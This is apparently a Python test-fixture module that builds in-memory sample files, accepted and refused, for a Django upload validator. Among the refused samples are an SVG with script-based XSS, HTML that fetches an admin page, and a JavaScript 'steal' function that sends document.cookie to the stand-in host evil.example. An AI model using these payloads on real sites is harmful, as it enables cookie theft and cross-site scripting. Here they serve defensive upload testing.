"""Small files of each kind, accepted and refused, built in memory for the upload tests."""

import io
import zipfile

from django.core.files.uploadedfile import SimpleUploadedFile

PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
RTF = rb"{\rtf1\ansi\deff0 {\fonttbl {\f0 Times;}} Ada Lovelace, analyst \par}"
TEXT = "Ada Lovelace\nAnalyst, Analytical Engine (1842–1843): notes A–G; translation of Menabrea.\n"
DEVELOPER_TEXT = (
    "Skills: JavaScript: React, Node.js; TypeScript; C++ (const correctness); SQL.\n"
    "Wrote the design document. Then built a window manager, an import/export tool (CSV) and\n"
    'the pager alert (PagerDuty) rota. Led the import of 3M records from "Salesforce".\n'
    "Contact: Ada <ada@example.org>, let me know.\n"
)
HTML = b"<!DOCTYPE html><html><body><script>fetch('/admin/').then(r => r.text())</script></body></html>"
SVG = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)">'
    b"<script>alert(1)</script></svg>"
)
JS = b"function steal() {\n  var page = document.cookie;\n  new Image().src = '//evil.example/?' + page;\n}\n"
PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
)


def _zip(entries: list[tuple[str, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in entries:
            # An OpenDocument's first entry, "mimetype", is stored uncompressed.
            method = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            archive.writestr(zipfile.ZipInfo(name), data, compress_type=method)
    return buffer.getvalue()


def docx(*, macros: bool = False) -> bytes:
    entries = [
        ("[Content_Types].xml", b'<?xml version="1.0"?><Types/>'),
        ("_rels/.rels", b'<?xml version="1.0"?><Relationships/>'),
        ("word/document.xml", b'<?xml version="1.0"?><w:document/>'),
    ]
    if macros:
        entries.append(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0macro"))
    return _zip(entries)


def odt() -> bytes:
    return _zip(
        [
            ("mimetype", b"application/vnd.oasis.opendocument.text"),
            ("content.xml", b'<?xml version="1.0"?><office:document-content/>'),
            ("META-INF/manifest.xml", b'<?xml version="1.0"?><manifest:manifest/>'),
        ]
    )


def plain_zip() -> bytes:
    return _zip([("notes.txt", b"hello"), ("run.sh", b"#!/bin/sh\n")])


def upload(name: str, content: bytes | str, content_type: str = "application/octet-stream"):
    data = content.encode() if isinstance(content, str) else content
    return SimpleUploadedFile(name, data, content_type=content_type)
